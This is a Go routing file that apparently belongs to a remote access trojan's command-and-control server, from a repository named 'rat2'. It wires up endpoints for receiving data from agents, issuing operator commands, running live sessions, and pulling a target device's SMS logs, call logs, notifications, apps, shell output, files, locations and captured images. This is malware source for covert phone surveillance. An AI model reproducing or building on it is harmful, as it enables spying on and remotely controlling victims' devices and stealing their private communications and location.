package routes

import (
	"github.com/MRSt3Ss/rat2/api/handlers"
	"github.com/MRSt3Ss/rat2/internal/service"

	"github.com/gin-gonic/gin"
	"github.com/sirupsen/logrus"
)

// SetupRoutes sets up all the routes for the server
func SetupRoutes(r *gin.Engine, svc service.Service, log *logrus.Logger) {
	// Health check
	r.GET("/health", handlers.HealthCheck)

	// Live operator sessions
	liveHandler := handlers.NewLiveHandler(svc, log)
	r.GET("/ws", liveHandler.Serve)

	// API routes
	api := r.Group("/api")

	// Agent ingestion
	ingestHandler := handlers.NewIngestHandler(svc, log)
	api.POST("/data", ingestHandler.ReceiveData)

	// Device listing, selection, and info
	deviceHandler := handlers.NewDeviceHandler(svc, log)
	api.GET("/devices", deviceHandler.ListDevices)
	api.POST("/select_device", deviceHandler.SelectDevice)
	api.GET("/device_info", deviceHandler.DeviceInfo)
	api.GET("/stats", deviceHandler.QueueStats)

	// Operator commands
	commandHandler := handlers.NewCommandHandler(svc, log)
	api.POST("/command", commandHandler.SubmitCommand)

	// History queries for the selected device
	historyHandler := handlers.NewHistoryHandler(svc, log)
	api.GET("/sms_logs", historyHandler.SMSLogs)
	api.GET("/call_logs", historyHandler.CallLogs)
	api.GET("/notifications", historyHandler.Notifications)
	api.GET("/apps", historyHandler.Apps)
	api.GET("/shell_result", historyHandler.ShellResults)
	api.GET("/filemanager", historyHandler.FileManagerResults)
	api.GET("/locations", historyHandler.Locations)

	// Stored captured images
	imageHandler := handlers.NewImageHandler(svc, log)
	api.GET("/image/:filename", imageHandler.GetImage)
}
